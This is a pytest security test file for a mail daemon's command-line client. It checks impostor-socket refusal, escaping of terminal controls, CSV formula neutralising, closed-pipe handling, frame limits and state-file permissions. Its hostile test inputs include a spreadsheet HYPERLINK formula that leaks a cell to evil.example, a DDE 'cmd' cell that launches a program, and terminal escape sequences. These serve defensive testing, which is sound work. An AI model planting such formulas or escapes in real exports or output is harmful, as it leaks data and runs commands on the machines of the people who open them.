"""mailerctl and the daemon against hostile neighbours, hostile lists and closed pipes
(security review M5, M6, L1, L7, L8, L11, I3; install review: pipes, times, permission denied).

Real mailerctl processes against real daemons on real sockets; impostors are real processes
running as a second uid (nobody), made by a fork that drops privileges (tests run as root).
"""

from __future__ import annotations

import configparser
import contextlib
import csv
import io
import json
import logging
import os
import re
import select
import shutil
import socket
import stat
import subprocess
import sys
import tempfile
from pathlib import Path
from typing import Any, Callable, Iterator

import pytest

from conftest import make_campaign, relay_server
from mailerd import wire
from mailerd.schema.control import AnyReply, Error
from mailerd.system.log import readable
from mailerd.testing.relay import Faults
from test_access import nobody_ids, run_as

ROOT = Path(__file__).resolve().parent.parent
as_root = pytest.mark.skipif(os.geteuid() != 0 or not sys.platform.startswith("linux"),
                             reason="needs root on Linux to act as a second uid (nobody)")


def mailerctl(*args: str, cwd: Path | None = None, env: dict[str, str] | None = None,
              stdout: Any = subprocess.PIPE, timeout: float = 60) -> subprocess.CompletedProcess[str]:
    environment = {k: v for k, v in os.environ.items() if k not in ("MAILERD_SOCKET", "MAILERD_USER")}
    return subprocess.run([sys.executable, "-m", "mailerctl", *args], cwd=cwd,
                          env={**environment, **(env or {})}, stdout=stdout,
                          stderr=subprocess.PIPE, text=True, timeout=timeout)


@pytest.fixture
def shared_dir() -> Iterator[Path]:
    """A world-writable sticky directory, like /tmp or a shared project folder."""
    path = Path(tempfile.mkdtemp(prefix="mailerd-shared-"))
    path.chmod(0o1777)
    yield path
    shutil.rmtree(path, ignore_errors=True)


@contextlib.contextmanager
def impostor(path: Path) -> Iterator[Callable[[], int]]:
    """A process running as nobody that listens on `path` (mode 0777) and counts the bytes
    clients send it; the yielded function stops it and returns that count."""
    uid, gid = nobody_ids()
    ready_r, ready_w = os.pipe()
    stop_r, stop_w = os.pipe()
    out_r, out_w = os.pipe()
    pid = os.fork()
    if pid == 0:  # child: never returns into pytest
        received = -1
        try:
            for fd in (ready_r, stop_w, out_r):  # the parent's ends: EOF on stop_r must reach us
                os.close(fd)
            os.setgroups([])
            os.setgid(gid)
            os.setuid(uid)
            server = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
            server.bind(str(path))
            os.chmod(path, 0o777)
            server.listen()
            os.write(ready_w, b"1")
            received = 0
            while True:
                readable, _, _ = select.select([server, stop_r], [], [], 60)
                if stop_r in readable or not readable:
                    break
                conn, _ = server.accept()
                conn.settimeout(5)
                with contextlib.suppress(OSError):
                    while data := conn.recv(65536):
                        received += len(data)
                conn.close()
        finally:
            os.write(out_w, str(received).encode())
            os._exit(0)
    for fd in (ready_w, stop_r, out_w):
        os.close(fd)
    try:
        assert os.read(ready_r, 1) == b"1", "the impostor did not start"

        def stop() -> int:
            os.close(stop_w)
            count = int(os.read(out_r, 32) or b"-1")
            return count

        yield stop
    finally:
        with contextlib.suppress(OSError):
            os.close(stop_w)
        os.waitpid(pid, 0)
        os.close(ready_r)
        os.close(out_r)


def campaign_with_key(directory: Path) -> tuple[Path, Path]:
    """make_campaign's files plus a campaign DKIM key: what an impostor wants."""
    campaign, recipients = make_campaign(directory, 3)
    key = directory / "dkim.pem"
    key.write_text("-----BEGIN PRIVATE KEY-----\nMC4CAQAwBQYDK2VwBCIEIDONOTLEAKDONOTLEAKDONOTLEAKDONOTLEAKDONOT\n"
                   "-----END PRIVATE KEY-----\n")
    key.chmod(0o600)
    return campaign, recipients


# ------------------------------------------------------------------ M5: whose socket


@as_root
@pytest.mark.parametrize("how", ["--socket", "MAILERD_SOCKET"])
def test_an_impostor_socket_gets_nothing_and_mailerctl_says_why(tmp_path, shared_dir, how):
    campaign, recipients = campaign_with_key(tmp_path / "c")
    trap = shared_dir / "control.sock"
    with impostor(trap) as stop:
        args = ["enqueue", str(campaign), "--recipients", str(recipients)]
        if how == "--socket":
            result = mailerctl("--socket", str(trap), *args)
        else:
            result = mailerctl(*args, env={"MAILERD_SOCKET": str(trap)})
        received = stop()
    assert received == 0, "the impostor received part of the campaign"
    assert result.returncode == 3, result
    uid, _ = nobody_ids()
    assert result.stderr.startswith(f"mailerctl: refusing {trap}: the socket belongs to uid {uid}")
    assert "impostor" in result.stderr and len(result.stderr.splitlines()) == 1
    assert result.stdout == ""


@as_root
def test_a_root_owned_path_served_by_another_uid_is_refused_before_sending(tmp_path, shared_dir):
    # the file check passes (root owns the path, as after a swap between check and
    # connect); the listener's SO_PEERCRED still names nobody
    trap = shared_dir / "control.sock"
    with impostor(trap) as stop:
        os.chown(trap, 0, 0)
        result = mailerctl("--socket", str(trap), "list")
        received = stop()
    uid, _ = nobody_ids()
    assert received == 0
    assert result.returncode == 3
    assert f"refusing {trap}: the socket is served by uid {uid}" in result.stderr


def test_no_socket_is_taken_from_the_current_directory(tmp_path, daemon_factory):
    if os.path.exists("/run/mailerd/control.sock"):
        pytest.skip("a system mailerd is running on this machine")
    daemon = daemon_factory({}, daemon={"socket": "state/control.sock"})
    daemon.socket = str(daemon.workdir / "state" / "control.sock")
    daemon.start()
    result = mailerctl("status", cwd=daemon.workdir)
    assert result.returncode == 3
    assert "/run/mailerd/control.sock" in result.stderr and result.stdout == ""
    # the same socket named on purpose is the daemon's (root's) and is used
    assert mailerctl("--socket", "state/control.sock", "status", cwd=daemon.workdir).returncode == 0


@as_root
def test_a_user_without_access_gets_one_line_permission_denied(daemon_factory):
    # the shipped layout: /run/mailerd is 0750 mailerd:mailerd, so a stranger cannot
    # even look at the socket; here a 0750 root:root directory
    base = Path(tempfile.mkdtemp(prefix="mailerd-private-"))
    try:
        base.chmod(0o750)
        daemon = daemon_factory({}, daemon={"socket": str(base / "control.sock")})
        daemon.socket = str(base / "control.sock")
        daemon.start()
        uid, gid = nobody_ids()
        code, out, err = run_as(uid, gid, ["--socket", daemon.socket, "status"])
        assert code == 3, (code, out, err)
        assert err == (f"mailerctl: permission denied: cannot open {daemon.socket}: only root, "
                       "the daemon's user and members of group root may (after `usermod -aG "
                       "root USER`, log in again)\n")
    finally:
        shutil.rmtree(base, ignore_errors=True)


# ------------------------------------------------------------------ M6: hostile strings

ESCAPES = "\x1b]0;TERMINAL-TITLE\x07\x1b[2J\x1b[1;31mALERT\x1b[0m\x9b2J"
FORMULA = '=HYPERLINK("https://evil.example/?leak="&A3,"click")'


@pytest.fixture
def hostile_campaign(tmp_path, relay_factory, daemon_factory):
    relay = relay_factory()
    daemon = daemon_factory({"isp": relay_server(relay)}).start()
    rows = [f'"{FORMULA.replace(chr(34), chr(34) * 2)}",A,1', f"{ESCAPES}@x,B,2",
            "+cmd|' /C calc'!A0,C,3", "@SUM(1+1),D,4"]
    cid = daemon.send_campaign(tmp_path / "c", 2, extra_rows=rows)
    daemon.wait_done(cid)
    return daemon, cid


def assert_no_terminal_controls(text: str) -> None:
    assert not re.search("[\x00-\x09\x0b-\x1f\x7f-\x9f]", text), repr(text)


def test_text_outputs_show_terminal_controls_escaped(hostile_campaign):
    daemon, cid = hostile_campaign
    for args in (["report", str(cid), "--state", "invalid"], ["list"], ["status"],
                 ["report", str(cid)]):
        out = daemon.ctl(*args).stdout
        assert_no_terminal_controls(out)
    invalid = daemon.ctl("report", str(cid), "--state", "invalid").stdout
    assert "\\x1b]0;TERMINAL-TITLE\\x07\\x1b[2J" in invalid and "\\x9b2J" in invalid
    # --json stays exact: JSON escapes controls itself
    as_json = json.loads(daemon.ctl("report", str(cid), "--state", "invalid", "--json").stdout)
    assert ESCAPES + "@x" in {r["email"] for r in as_json["recipients"]}


def csv_emails(text: str) -> list[str]:
    return [row[0] for row in csv.reader(io.StringIO(text))][1:]


def test_report_csv_neutralises_formula_cells_unless_raw(hostile_campaign):
    daemon, cid = hostile_campaign
    emails = csv_emails(daemon.ctl("report", str(cid), "--csv").stdout)
    assert "'" + FORMULA in emails and "'+cmd|' /C calc'!A0" in emails and "'@SUM(1+1)" in emails
    assert not [e for e in emails if e.startswith(("=", "+", "-", "@"))]
    assert "user0@example.com" in emails  # ordinary cells untouched
    raw = csv_emails(daemon.ctl("report", str(cid), "--csv", "--raw-csv").stdout)
    assert FORMULA in raw and ESCAPES + "@x" in raw


def test_log_lines_escape_controls_and_show_moments_as_iso_8601(
        tmp_path, relay_factory, daemon_factory):
    relay = relay_factory(Faults(greeting_421=True))
    daemon = daemon_factory({"isp": relay_server(relay, connections=1)}).start()
    daemon.send_campaign(tmp_path / "c", 1)  # a session is tried, refused, backed off
    line = daemon.log_line("session_backoff", "until=")
    assert re.search(r" until=\d{4}-\d\d-\d\dT\d\d:\d\d:\d\dZ( |$)", line), line
    assert re.match(r"\d{4}-\d\d-\d\dT\d\d:\d\d:\d\d[+-]\d\d:\d\d ", line), line
    # the same rules on a record carrying a hostile reply
    record = logging.LogRecord("mailerd", logging.INFO, __file__, 0, "sent", None, None)
    record.fields = {"reply": "550 " + ESCAPES, "until": 0, "sent_at": 1796121896.7}
    text = readable(record)
    assert_no_terminal_controls(text)
    assert "until=0 " in text and "sent_at=2026-12-01T10:44:56Z" in text


# ------------------------------------------------------------------ closed pipes


PIPED_COMMANDS = [
    ["report", "{cid}", "--csv"], ["report", "{cid}", "--json"], ["report", "{cid}", "--state", "sent"],
    ["report", "{cid}"], ["list"], ["list", "--json"], ["status"], ["status", "--json"],
    ["plan", "{cid}"], ["suppress", "list"], ["watch", "{cid}"],
]


def test_every_command_is_quiet_on_a_closed_pipe(tmp_path, relay_factory, daemon_factory):
    relay = relay_factory()
    daemon = daemon_factory({"isp": relay_server(relay)}).start()
    cid = daemon.send_campaign(tmp_path / "c", 20)
    daemon.wait_done(cid)
    outcomes = {}
    for args in PIPED_COMMANDS:
        read_end, write_end = os.pipe()
        os.close(read_end)  # the reader (head, grep -q) is already gone: every write fails
        try:
            result = mailerctl("--socket", daemon.socket, *[a.format(cid=cid) for a in args],
                               stdout=write_end)
        finally:
            os.close(write_end)
        outcomes[" ".join(args)] = (result.returncode, result.stderr)
    # 141: what a shell reports for a command ended by SIGPIPE; nothing on stderr
    assert outcomes == {command: (141, "") for command in outcomes}


def test_report_csv_into_head_ends_quietly(tmp_path, relay_factory, daemon_factory):
    relay = relay_factory()
    daemon = daemon_factory({"isp": relay_server(relay)}).start()
    cid = daemon.send_campaign(tmp_path / "c", 1500)  # more than a pipe buffer of CSV
    daemon.wait_done(cid, timeout=120)
    result = subprocess.run(
        ["bash", "-o", "pipefail", "-c",
         f'"{sys.executable}" -m mailerctl --socket {daemon.socket} report {cid} --csv | head -2'],
        capture_output=True, text=True, timeout=60)
    assert result.stdout.splitlines()[0].startswith("email,state")
    assert len(result.stdout.splitlines()) == 2
    assert result.stderr == "" and result.returncode == 141


# ------------------------------------------------------------------ L7, L8: frame limits


def test_a_list_too_wide_is_refused_by_mailerctl_before_it_is_read(tmp_path, daemon_factory):
    daemon = daemon_factory({}).start()
    campaign, _ = make_campaign(tmp_path / "c", 1)
    wide = tmp_path / "c" / "wide.csv"
    columns = [f"column{i}" for i in range(900_000)]  # ~11 MB of names
    wide.write_text("email," + ",".join(columns) + "\na@example.com" + "," * len(columns) + "\n")
    result = daemon.ctl("enqueue", str(campaign), "--recipients", str(wide), check=False)
    assert result.returncode == 2, result
    assert result.stderr.startswith(f"mailerctl: {wide}: line 1: the header row is longer than")
    assert daemon.status().campaigns == []
    many = tmp_path / "c" / "many.csv"
    many.write_text("email," + ",".join(f"c{i}" for i in range(20_000)) + "\n")
    result = daemon.ctl("enqueue", str(campaign), "--recipients", str(many), check=False)
    assert result.returncode == 2 and "20,001 columns; a list has at most 10,000" in result.stderr


def test_a_request_too_large_for_a_frame_is_refused_by_mailerctl_naming_the_file(tmp_path,
                                                                                   daemon_factory):
    daemon = daemon_factory({}).start()
    campaign, recipients = make_campaign(tmp_path / "c", 1, text="x" * (wire.MAX_FRAME + 1))
    result = daemon.ctl("enqueue", str(campaign), "--recipients", str(recipients), check=False)
    assert result.returncode == 2, result
    assert result.stderr.startswith(f"mailerctl: {recipients} (with {campaign}): a request of ")
    assert f"frame limit of {wire.MAX_FRAME:,} bytes" in result.stderr
    assert "control_bad_frame" not in daemon.log()  # refused before anything was sent
    assert daemon.status().campaigns == []


def test_a_deeply_nested_frame_gets_an_error_reply_and_no_traceback(daemon_factory):
    daemon = daemon_factory({}).start()
    body = b"\x81\xa1a" * 1_000_000 + b"\xc0"
    with socket.socket(socket.AF_UNIX, socket.SOCK_STREAM) as sock:
        sock.settimeout(30)
        sock.connect(daemon.socket)
        sock.sendall(wire.HEADER.pack(len(body)) + body)
        reply = wire.Decoder(AnyReply).decode(wire.recv_frame(sock))
    assert isinstance(reply, Error) and "nested too deeply" in reply.message
    daemon.log_line("control_bad_frame", "nested too deeply")
    daemon.status()
    # (daemon_factory asserts that no traceback reached the daemon's log)


# ------------------------------------------------------------------ L1, L11: the state dir


def file_modes(state_dir: Path) -> dict[str, int]:
    return {p.name: stat.S_IMODE(p.stat().st_mode) for p in state_dir.iterdir()
            if p.name.startswith("journal") or p.name.endswith(".key")}


def test_state_files_are_private_whatever_the_umask(tmp_path, relay_factory, daemon_factory):
    relay = relay_factory()
    daemon = daemon_factory({"isp": relay_server(relay)},
                            prefix=["sh", "-c", 'umask 022; exec "$@"', "sh"])
    daemon.state_dir.mkdir(mode=0o755)
    daemon.state_dir.chmod(0o755)
    daemon.start()
    daemon.wait_done(daemon.send_campaign(tmp_path / "c", 5))
    assert stat.S_IMODE(daemon.state_dir.stat().st_mode) == 0o700
    modes = file_modes(daemon.state_dir)
    assert {"journal.sqlite3", "journal.sqlite3-wal", "unsubscribe.key"} <= set(modes)
    assert set(modes.values()) == {0o600}, modes

    # opened up by hand while stopped: tightened at the next start, and said so
    assert daemon.terminate() == 0
    daemon.state_dir.chmod(0o755)
    (daemon.state_dir / "journal.sqlite3").chmod(0o644)
    daemon.start()
    assert stat.S_IMODE(daemon.state_dir.stat().st_mode) == 0o700
    assert set(file_modes(daemon.state_dir).values()) == {0o600}
    daemon.log_line("state_permissions_tightened", "journal.sqlite3", "mode_was=0644", "mode=0600")


@pytest.mark.parametrize("link", ["symlink", "hardlink"])
def test_a_second_daemon_cannot_serve_a_live_daemons_journal(tmp_path, daemon_factory, link):
    first = daemon_factory({}).start()
    second = daemon_factory({})
    second.state_dir.mkdir(mode=0o700)
    journal = first.state_dir / "journal.sqlite3"
    target = second.state_dir / "journal.sqlite3"
    if link == "symlink":
        target.symlink_to(journal)
    else:
        os.link(journal, target)
    result = second.start_expecting_failure()
    if link == "symlink":
        assert result.returncode == 3
        assert f"journal {target} is a symbolic link" in result.stderr
    else:
        assert result.returncode == 4
        assert f"journal {target} is already in use by another mailerd" in result.stderr
    assert "Traceback" not in result.stderr
    first.status()


# ------------------------------------------------------------------ I3: the unit


def test_the_unit_bounds_descriptors_and_memory():
    unit = configparser.ConfigParser(strict=False, interpolation=None)
    unit.optionxform = str  # type: ignore[assignment,method-assign]
    unit.read(ROOT / "packaging" / "mailerd.service")
    service = unit["Service"]
    assert int(service["LimitNOFILE"]) >= 4096

    def size(value: str) -> int:
        number, unit_ = re.fullmatch(r"(\d+)([KMG]?)", value).groups()
        return int(number) * {"": 1, "K": 2**10, "M": 2**20, "G": 2**30}[unit_]

    assert 256 * 2**20 <= size(service["MemoryHigh"]) < size(service["MemoryMax"])
